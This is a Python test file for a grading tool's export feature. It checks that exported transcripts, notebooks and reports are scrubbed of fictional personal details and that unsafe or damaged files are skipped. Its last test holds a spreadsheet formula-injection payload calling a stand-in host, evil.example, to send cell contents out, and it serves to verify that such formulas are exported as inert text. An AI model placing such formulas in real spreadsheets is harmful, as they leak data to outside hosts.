"""Tests for grading.report.export: does everything that leaves the machine come out scrubbed?"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from grading.report.export import ExportError, export
from tests.grading.factories import roleplay_transcript

SECRET = "Maria Lopez, 555-0100, maria@example.org, 42 Oak Street, DOB: 3/14/1990"


@pytest.fixture
def course_files(tmp_path: Path) -> Path:
    """A folder like course/submitted plus reports, each file holding personal details."""
    folder = tmp_path / "submitted" / "ana" / "01-module"
    roleplay_transcript(
        folder / "roleplay-warm-line-crisis.json",
        "warm-line-crisis",
        ["What is going on tonight?", f"You said your sister {SECRET} is worried about you."],
    )
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell(f"My note: met {SECRET}.")]
    nbformat.write(notebook, folder / "notes.ipynb")
    (folder / "note.txt").write_text(f"G: housing. I: met {SECRET}.", encoding="utf-8")
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "flags.csv").write_text(f"trainee,detail\nana,{SECRET}\n", encoding="utf-8")
    (reports / "report.html").write_text(f"<td>{SECRET}</td>", encoding="utf-8")
    workbook = Workbook()
    workbook.active["A1"] = SECRET
    workbook.save(reports / "report.xlsx")
    (reports / "plot.png").write_bytes(b"\x89PNG\r\n")
    (reports / "broken.json").write_text("{not json", encoding="utf-8")
    return tmp_path


def _all_text(folder: Path) -> str:
    texts = []
    for path in folder.rglob("*"):
        if path.suffix == ".xlsx":
            texts += [str(c.value) for row in load_workbook(path).active.iter_rows() for c in row]
        elif path.is_file():
            texts.append(path.read_text(encoding="utf-8"))
    return "\n".join(texts)


def test_export_scrubs_transcripts_notes_and_reports(course_files: Path) -> None:
    """Is no phone, email, address, birth date or marked name left in any exported file?"""
    out = course_files / "export"
    result = export([course_files / "submitted", course_files / "reports"], out, ["Maria Lopez"])
    exported = _all_text(out)
    for detail in ("Maria", "555-0100", "maria@example.org", "42 Oak Street", "3/14/1990"):
        assert detail not in exported
    assert "[name]" in exported and "[phone]" in exported and "[email]" in exported
    assert len(result.written) == 6
    transcript = out / "submitted" / "ana" / "01-module" / "roleplay-warm-line-crisis.json"
    assert json.loads(transcript.read_text(encoding="utf-8"))["scenario"] == "warm-line-crisis"
    nbformat.read(out / "submitted" / "ana" / "01-module" / "notes.ipynb", as_version=4)


def test_unscrubbable_files_are_left_out_with_a_reason(course_files: Path) -> None:
    """Are images and damaged files listed as skipped instead of being copied unscrubbed?"""
    out = course_files / "export"
    result = export([course_files / "reports"], out)
    assert not (out / "reports" / "plot.png").exists()
    assert not (out / "reports" / "broken.json").exists()
    assert any("plot.png" in reason for reason in result.skipped)
    assert any("broken.json" in reason for reason in result.skipped)


def test_output_inside_a_source_is_refused(course_files: Path) -> None:
    """Is an output folder inside the exported folder refused before anything is written?"""
    with pytest.raises(ExportError, match="must be outside"):
        export([course_files], course_files / "export")
    with pytest.raises(ExportError, match="no such file"):
        export([course_files / "missing"], course_files / "out")


def test_names_file_adds_marked_names(course_files: Path) -> None:
    """Are names read from a names file (comments ignored) scrubbed as well?"""
    names = course_files / "names.txt"
    names.write_text("# people to hide\nLopez\n", encoding="utf-8")
    out = course_files / "export"
    export([course_files / "submitted" / "ana" / "01-module" / "note.txt"], out, names_file=names)
    assert "Lopez" not in (out / "note.txt").read_text(encoding="utf-8")


def test_cli_export_and_purge(course_files: Path) -> None:
    """Do `grading export` and `grading purge` work from the command line, errors exit 1?"""
    from grading.cli import app

    runner = CliRunner()
    out = course_files / "export"
    done = runner.invoke(
        app, ["export", str(course_files / "reports"), "--out", str(out), "--name", "Maria"]
    )
    assert done.exit_code == 0, done.output
    assert "Maria" not in (out / "reports" / "flags.csv").read_text(encoding="utf-8")
    refused = runner.invoke(app, ["export", str(course_files), "--out", str(out)])
    assert refused.exit_code == 1
    assert "must be outside" in refused.output
    purged = runner.invoke(
        app, ["purge", "--course", str(course_files), "--older-than", "1", "--dry-run"]
    )
    assert purged.exit_code == 0, purged.output


def test_export_writes_formulas_as_text_and_survives_deep_json(tmp_path: Path) -> None:
    """Through `python -m grading export`: are formula cells text and a 200 KB nested file
    a listed skip, never a crash?"""
    import csv
    import subprocess
    import sys

    source = tmp_path / "reports"
    source.mkdir()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with (source / "flags.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["kind", "detail"], [formula, "@SUM(1)"]])
    workbook = Workbook()
    workbook.active["A1"] = formula
    workbook.active["A2"] = "-2+3"
    workbook.save(source / "report.xlsx")
    (source / "roleplay-deep.json").write_text("[" * 100_000 + "]" * 100_000)
    out = tmp_path / "export"
    run = subprocess.run(
        [sys.executable, "-m", "grading", "export", str(source), "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    assert "roleplay-deep.json" in run.stderr and "LoadLimitError" in run.stderr
    with (out / "reports" / "flags.csv").open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle))[1] == ["'" + formula, "'@SUM(1)"]
    sheet = load_workbook(out / "reports" / "report.xlsx").active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'" + formula, "s")
    assert sheet["A2"].value == "'-2+3"
